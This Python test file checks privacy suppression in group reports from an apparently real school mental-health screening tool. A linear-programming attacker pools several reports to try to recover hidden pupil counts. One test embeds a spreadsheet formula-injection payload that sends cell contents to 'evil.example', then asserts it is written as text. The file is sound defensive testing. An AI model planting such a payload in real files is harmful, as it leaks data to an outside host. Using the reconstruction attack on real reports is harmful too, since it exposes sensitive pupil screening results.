"""Suppression that holds across every group report one user can request (issue 15).

The attacker: one person requests several group reports of the same waves (``--by school``,
``--by grade``, ``--by school,grade``, ``--by grade,school``, ``--by school,grade,class``, a
two-wave report), identifies the cells that describe the same pupils by their labels (wave,
school, grade, class), takes every value any report shows, and solves one linear programme
per hidden cell over all of it: the row relations (tiers add up to ``n``), every relation
between two groupings (a coarser cell is the sum of the finer cells inside it; the district
total also counts the unmatched sheets), ``0 <= count``, a cut-off count at most its shown
``n:`` and at most its row's ``n``; integers relaxed. A hidden count of one pupil or more
whose feasible interval is narrower than :data:`MARGIN` is a disclosure.

The same attacker recovers cells when each grouping is suppressed on its own (the method
before issue 15), so it has the power to find the leak the issue reported.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from scipy.optimize import linprog
from scipy.sparse import csr_matrix

from xinli_screen.policy.models import TIER_ORDER
from xinli_screen.report.group import (
    HIDDEN,
    SuppressionError,
    build_group_report,
    group_counts,
    render_group_html,
    suppress,
    write_group_report,
)
from xinli_screen.report.group import _masked as masked

CUT = "phqa.total.screen_positive"
COLS = ["n", *[f"count:{t}" for t in TIER_ORDER], f"count:{CUT}"]
#: Width the feasible interval of a hidden count of one pupil or more must reach: a reader
#: cannot narrow it to less than one pupil, so the true count and another whole number
#: differing from it by at least one remain possible (relaxed LP bounds).
MARGIN = 1.0
#: (grouping, waves, min_cell) of the pooled requests.
REQUESTS: list[tuple[tuple[str, ...], tuple[str, ...], int]] = [
    (("school",), ("w1",), 5), (("grade",), ("w1",), 5), (("school", "grade"), ("w1",), 5),
    (("grade", "school"), ("w1",), 5), (("school", "grade", "class"), ("w1",), 5),
    (("school",), ("w1", "w2"), 5), (("school", "grade", "class"), ("w1", "w2"), 5),
    (("grade",), ("w2",), 5), (("school", "grade", "class"), ("w1", "w2"), 3),
    (("school",), ("w1",), 8), (("school", "grade"), ("w2",), 4),
]


def _pupils(spec: Mapping[tuple[str | None, str | None, str | None], Sequence[int]],
            seed: int = 0, cut_rate: float = 0.3) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    rows = [{"school": s, "grade": g, "class": c, "warning_tier": t}
            for (s, g, c), counts in spec.items()
            for t, k in zip(TIER_ORDER, counts, strict=True) for _ in range(k)]
    frame = pd.DataFrame(rows)
    frame[CUT] = (rng.random(len(frame)) < cut_rate).tolist()
    return frame


# -- the attacker ----------------------------------------------------------------------------
def _key(by: Sequence[str], row: pd.Series) -> object:
    """Which pupils a published row describes, from its labels alone."""
    level, depth = row["level"], int(row["depth"])
    if level == "unmatched":
        return "unmatched"
    if level == "total":
        return frozenset()
    if level == "grade_total":
        return frozenset({("grade", row["grade"])})
    return frozenset((c, row[c]) for c in by[:depth])


def _pool(reports: Sequence[tuple[Sequence[str], Mapping[str, pd.DataFrame]]]
          ) -> tuple[dict[tuple[str, object, str], float | None], dict[tuple, float]]:
    """Every cell any report publishes, by (wave, key, column): its value or None (hidden
    everywhere); and the shown ``n:`` of the cut-off per (wave, key)."""
    cells: dict[tuple[str, object, str], float | None] = {}
    denominators: dict[tuple, float] = {}
    for by, waves in reports:
        for wave, pub in waves.items():
            for _, row in pub.iterrows():
                key = _key(by, row)
                for c in COLS:
                    v = row[c]
                    shown = None if v == HIDDEN else float(v)
                    old = cells.get((wave, key, c))
                    if old is not None and shown is not None:
                        assert old == shown  # the same pupils: the same count
                    cells[(wave, key, c)] = shown if old is None else old
                if row[f"n:{CUT}"] != HIDDEN:
                    denominators[(wave, key)] = float(row[f"n:{CUT}"])
    return cells, denominators


def _relations(cells: Mapping[tuple[str, object, str], float | None]
               ) -> list[list[tuple[tuple[str, object, str], int]]]:
    """All additive relations between the pooled cells: per cell the tiers add up to n; per
    wave and column, each cell of a grouping is the sum of the cells of every finer grouping
    inside it (the total: plus the unmatched sheets)."""
    rels = []
    keys = {(w, k) for w, k, _ in cells}
    for w, k in keys:
        rels.append([((w, k, "n"), 1), *[((w, k, f"count:{t}"), -1) for t in TIER_ORDER]])
    margins: dict[tuple[str, frozenset[str]], list[frozenset]] = {}
    for w, k in keys:
        if isinstance(k, frozenset):
            margins.setdefault((w, frozenset(c for c, _ in k)), []).append(k)
    for (w, coarse), parents in margins.items():
        for (w2, fine), kids in margins.items():
            if w2 != w or not coarse < fine:
                continue
            for p in parents:
                inside = [k for k in kids if p <= k]
                extra = [(w, "unmatched")] if not p and (w, "unmatched") in keys else []
                for c in COLS:
                    rels.append([((w, p, c), 1), *[((w, k, c), -1) for k in inside],
                                 *[((w, u, c), -1) for _, u in extra]])
    return rels


def attack(reports: Sequence[tuple[Sequence[str], Mapping[str, pd.DataFrame]]],
           truth: Mapping[tuple[str, object, str], float],
           protected: set[tuple[str, object, str]] | None = None
           ) -> tuple[list[str], float, int]:
    """Leaks (hidden positive counts whose interval is under :data:`MARGIN`), the narrowest
    interval of a hidden positive count, and how many hidden cells were checked.

    ``protected``: the cells that must stay unpinned (default: every hidden one). When the
    pool mixes minimum cell sizes, the reader may see whatever the smallest shows, so only
    the cells that the finest report at the smallest size hides must stay unknown."""
    cells, dens = _pool(reports)
    unknown = [c for c, v in cells.items() if v is None]
    if not unknown:
        return [], np.inf, 0
    index = {c: i for i, c in enumerate(unknown)}
    rows, cols, data, b_eq = [], [], [], []
    for rel in _relations(cells):
        const, terms = 0.0, []
        for cell, sign in rel:
            if cell in index:
                terms.append((index[cell], sign))
            else:
                const += sign * cells[cell]
        if terms:
            q = len(b_eq)
            for i, s in terms:
                rows.append(q)
                cols.append(i)
                data.append(float(s))
            b_eq.append(-const)
    a_eq = csr_matrix((data, (rows, cols)), shape=(len(b_eq), len(unknown)))
    bounds: list[tuple[float, float | None]] = []
    ub_rows, ub_cols, ub_data, b_ub = [], [], [], []
    for w, k, c in unknown:
        up = dens.get((w, k)) if c == f"count:{CUT}" else None
        bounds.append((0.0, up))
        if c == f"count:{CUT}":  # a cut-off count is at most its row's n
            n_cell = (w, k, "n")
            q = len(b_ub)
            ub_rows.append(q)
            ub_cols.append(index[(w, k, c)])
            ub_data.append(1.0)
            if n_cell in index:
                ub_rows.append(q)
                ub_cols.append(index[n_cell])
                ub_data.append(-1.0)
                b_ub.append(0.0)
            else:
                b_ub.append(cells[n_cell])
    a_ub = (csr_matrix((ub_data, (ub_rows, ub_cols)), shape=(len(b_ub), len(unknown)))
            if b_ub else None)
    leaks, narrowest = [], np.inf
    for i, cell in enumerate(unknown):
        obj = np.zeros(len(unknown))
        obj[i] = 1.0
        kw = {"A_eq": a_eq, "b_eq": b_eq, "A_ub": a_ub, "b_ub": b_ub or None,
              "bounds": bounds, "method": "highs"}
        lo = linprog(obj, **kw)
        hi = linprog(-obj, **kw)
        assert lo.status == 0 and hi.status in (0, 3)  # the true tables are feasible
        if truth[cell] <= 0 or (protected is not None and cell not in protected):
            continue  # a hidden 0 names no pupil
        width = np.inf if hi.status == 3 else -hi.fun - lo.fun
        assert lo.fun - 1e-6 <= truth[cell] <= (np.inf if hi.status == 3 else -hi.fun) + 1e-6
        narrowest = min(narrowest, width)
        if width < MARGIN - 1e-6:
            leaks.append(f"{cell} = {truth[cell]:g} in [{lo.fun:g}, {-hi.fun:g}]")
    return leaks, narrowest, len(unknown)


def _truth(tables: Mapping[str, pd.DataFrame]) -> dict[tuple[str, object, str], float]:
    out = {}
    for by in (["school", "grade", "class"],):  # every margin is a row of this table
        for wave, t in tables.items():
            counts = group_counts(t, by)
            for _, row in counts.iterrows():
                for c in COLS:
                    out[(wave, _key(by, row), c)] = float(row[c])
    return out


def _protected(tables: Mapping[str, pd.DataFrame], min_cell: int
               ) -> set[tuple[str, object, str]]:
    """Cells the finest report at ``min_cell`` hides: what a pool whose smallest minimum cell
    size is ``min_cell`` must not reveal."""
    by = ["school", "grade", "class"]
    pub = build_group_report(tables, by, min_cell=min_cell).waves
    return {(w, _key(by, row), c) for w, t in pub.items() for _, row in t.iterrows()
            for c in COLS if row[c] == HIDDEN}


def _requests(tables: Mapping[str, pd.DataFrame]
              ) -> list[tuple[Sequence[str], Mapping[str, pd.DataFrame]]]:
    out = []
    for by, waves, min_cell in REQUESTS:
        rep = build_group_report({w: tables[w] for w in waves}, list(by), min_cell=min_cell)
        out.append((list(by), rep.waves))
    return out


# -- the guarantee ---------------------------------------------------------------------------
_class = st.lists(st.integers(0, 8), min_size=4, max_size=4).filter(lambda v: sum(v) > 0)


@st.composite
def _waves(draw: st.DrawFn) -> dict[str, pd.DataFrame]:
    out = {}
    for w in ("w1", "w2"):
        spec: dict[tuple[str | None, str | None, str | None], list[int]] = {}
        for s in range(draw(st.integers(1, 3))):
            for g in draw(st.lists(st.sampled_from(["四年级", "五年级", "初一"]), min_size=1,
                                   max_size=3, unique=True)):
                for c in range(draw(st.integers(1, 3))):
                    spec[(f"学校{s}", g, f"{c + 1}班")] = draw(_class)
        if draw(st.booleans()):  # sheets with a school but no grade or class
            spec[("学校0", None, None)] = draw(_class)
        if draw(st.booleans()):  # unmatched sheets
            spec[(None, None, None)] = draw(_class)
        out[w] = _pupils(spec, seed=draw(st.integers(0, 9)),
                         cut_rate=draw(st.sampled_from([0.0, 0.3, 0.7])))
    return out


@settings(max_examples=12, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(_waves())
def test_no_hidden_cell_is_recovered_by_pooling_requests(tables: dict[str, pd.DataFrame]
                                                         ) -> None:
    leaks, narrowest, _ = attack(_requests(tables), _truth(tables),
                                 _protected(tables, min(r[2] for r in REQUESTS)))
    assert leaks == []
    assert narrowest >= MARGIN - 1e-6


def test_pooled_attack_on_a_district(record_property: pytest.FixtureRequest) -> None:
    """A fixed district: eight requests pooled; reported in the closing note of issue 15."""
    rng = np.random.default_rng(15)
    spec: dict[tuple[str | None, str | None, str | None], list[int]] = {}
    for s in range(4):
        for g in ("四年级", "五年级", "初一"):
            for c in range(1, 4):
                base = rng.integers(0, 6, 4) + np.array([8, 0, 0, 0])
                spec[(f"学校{s}", g, f"{c}班")] = [int(v) for v in base]
    spec[("学校3", None, None)] = [2, 1, 0, 0]
    spec[(None, None, None)] = [1, 0, 1, 0]
    tables = {"w1": _pupils(spec, seed=1), "w2": _pupils(spec, seed=2, cut_rate=0.2)}
    leaks, narrowest, checked = attack(_requests(tables), _truth(tables),
                                       _protected(tables, min(r[2] for r in REQUESTS)))
    record_property("hidden_cells_checked", checked)  # type: ignore[operator]
    record_property("narrowest_interval", narrowest)  # type: ignore[operator]
    print(f"pooled {len(REQUESTS)} requests; {checked} hidden cells; narrowest {narrowest}")
    assert checked > 100 and leaks == [] and narrowest >= MARGIN


def test_the_attacker_recovers_cells_when_each_request_is_suppressed_alone() -> None:
    """The issue's finding, reproduced: suppressing each request on its own table (the
    method before issue 15) leaks under this attacker; the cube does not."""
    rng = np.random.default_rng(100)
    spec: dict[tuple[str | None, str | None, str | None], list[int]] = {}
    for s in range(rng.integers(2, 5)):
        for g in rng.choice(["四年级", "五年级", "初一"], rng.integers(1, 4), replace=False):
            for c in range(1, rng.integers(2, 4)):
                spec[(f"学校{s}", str(g), f"{c}班")] = list(rng.integers(0, 7, 4))
    t = _pupils(spec)
    asks = [(by, int(rng.integers(3, 11))) for by in (
        ["school"], ["school", "grade", "class"], ["grade"], ["school", "grade"],
        ["grade", "school"])]
    old = []
    for by, m in asks:
        counts = group_counts(t, by)
        old.append((by, {"w1": masked(counts, suppress(counts, min_cell=m))}))
    keep = _protected({"w1": t}, min(m for _, m in asks))
    leaks, _, _ = attack(old, _truth({"w1": t}), keep)
    assert len(leaks) >= 1
    new = [(by, build_group_report({"w1": t}, by, min_cell=m).waves) for by, m in asks]
    assert attack(new, _truth({"w1": t}), keep)[0] == []


def test_every_view_hides_what_the_cube_hides() -> None:
    t = _pupils({("甲校", "初一", "1班"): [9, 2, 1, 0], ("甲校", "初一", "2班"): [12, 3, 0, 0],
                 ("乙校", "初一", "1班"): [20, 4, 3, 2]})
    fine = build_group_report({"w": t}, ["school", "grade", "class"]).waves["w"]
    coarse = build_group_report({"w": t}, ["school"]).waves["w"]
    sub = fine[(fine["level"] == "subtotal") & (fine["depth"] == 1)]
    for col in COLS:
        assert coarse.loc[coarse["level"] == "group", col].tolist() == sub[col].tolist()


# -- what is refused -------------------------------------------------------------------------
def test_groupings_that_cannot_be_protected_are_refused() -> None:
    t = _pupils({("甲校", "初一", "1班"): [9, 2, 1, 0], ("甲校", "初二", "1班"): [9, 2, 1, 0]})
    t["sex"] = ["女", "男"] * (len(t) // 2)
    with pytest.raises(SuppressionError, match="outside the"):
        build_group_report({"w": t}, ["school", "sex"])
    with pytest.raises(SuppressionError, match="spans several groups"):
        build_group_report({"w": t}, ["school", "class"])
    alone = build_group_report({"w": t}, ["sex"]).waves["w"]
    assert alone.iloc[-1]["n"] == len(t)
    # classes named uniquely within a school: --by school,class is the finest table relabelled
    t["class"] = t["grade"] + t["class"]
    rep = build_group_report({"w": t}, ["school", "class"])
    assert rep.waves["w"]["level"].tolist()[-1] == "total"


@pytest.mark.parametrize("bad", [0, 1, 2, -5])
def test_min_cell_below_three_needs_the_unsafe_flag(bad: int) -> None:
    t = _pupils({("甲校", "初一", "1班"): [9, 2, 1, 0]})
    with pytest.raises(SuppressionError, match="minimum cell size"):
        build_group_report({"w": t}, ["school"], min_cell=bad)
    if bad < 1:
        with pytest.raises(SuppressionError, match="at least 1"):
            build_group_report({"w": t}, ["school"], min_cell=bad, allow_unsafe_min_cell=True)
        with pytest.raises(ValueError, match=">= 1"):
            suppress(group_counts(t, ["school"]), min_cell=bad)


def test_a_raised_min_cell_hides_more() -> None:
    t = _pupils({("甲校", "初一", "1班"): [30, 6, 3, 0], ("乙校", "初一", "1班"): [30, 7, 4, 1]})
    five = build_group_report({"w": t}, ["school"]).hidden["w"].to_numpy().sum()
    ten = build_group_report({"w": t}, ["school"], min_cell=10).hidden["w"].to_numpy().sum()
    assert ten > five


def test_an_unsafe_min_cell_is_on_every_page(tmp_path: Path) -> None:
    t = _pupils({("甲校", "初一", "1班"): [9, 2, 1, 0], ("乙校", "初一", "1班"): [9, 1, 1, 1]})
    rep = build_group_report({"w1": t, "w2": t}, ["school", "grade", "class"], min_cell=2,
                             allow_unsafe_min_cell=True)
    assert rep.unsafe_min_cell
    html = render_group_html(rep)
    assert html.count("低于安全下限 3") >= 3  # @page header, top, second wave
    assert "@top-center" in html
    book = openpyxl.load_workbook(write_group_report(rep, tmp_path / "g.xlsx"))
    for ws in book.worksheets:
        assert "低于安全下限 3" in str(ws["A1"].value), ws.title
        assert "低于安全下限 3" in (ws.oddHeader.left.text or ""), ws.title
    en = render_group_html(rep, lang="en")
    assert "below the safe floor of 3" in en
    import json

    doc = json.loads(write_group_report(rep, tmp_path / "g.json").read_text("utf-8"))
    assert doc["unsafe_min_cell"] is True and doc["min_cell"] == 2
    safe = build_group_report({"w": t}, ["school"])
    assert "安全下限" not in render_group_html(safe)


def test_cli_min_cell(cli, tmp_path: Path) -> None:
    t = _pupils({("甲校", "初一", "1班"): [9, 2, 1, 0], ("乙校", "初一", "1班"): [9, 1, 1, 1]})
    src = tmp_path / "r.csv"
    t.to_csv(src, index=False)
    for bad in ("0", "1", "-5", "2"):
        res = cli("report", "group", src, "--by", "school", "--min-cell", bad,
                  "-o", tmp_path / "x.json")
        assert res.code == 2, (bad, res)
        assert not (tmp_path / "x.json").exists()
    ok = cli("report", "group", src, "--by", "school", "--min-cell", "2", "--unsafe-min-cell",
             "-o", tmp_path / "y.json")
    assert ok.code == 0, ok
    assert cli("report", "group", src, "--by", "school", "--min-cell", "8",
               "-o", tmp_path / "z.json").code == 0
    refused = cli("report", "group", src, "--by", "school,warning_tier",
                  "-o", tmp_path / "w.json")
    assert refused.code == 2


# -- formula injection (issue 15, Medium) ----------------------------------------------------
def test_xlsx_writes_formula_like_names_as_text(tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    t = _pupils({(payload, "初一", "+1班"): [9, 2, 1, 0], ("@SUM(1)", "-2+3", "1班"): [9, 1, 1, 1]})
    rep = build_group_report({"=w": t}, ["school", "grade", "class"])
    path = write_group_report(rep, tmp_path / "g.xlsx")
    book = openpyxl.load_workbook(path)
    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)]
    assert any(c.value == payload for c in texts)
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows()
               for c in row)
    import zipfile

    with zipfile.ZipFile(path) as z:
        assert not any("<f>" in z.read(n).decode("utf-8") for n in z.namelist()
                       if n.endswith(".xml"))
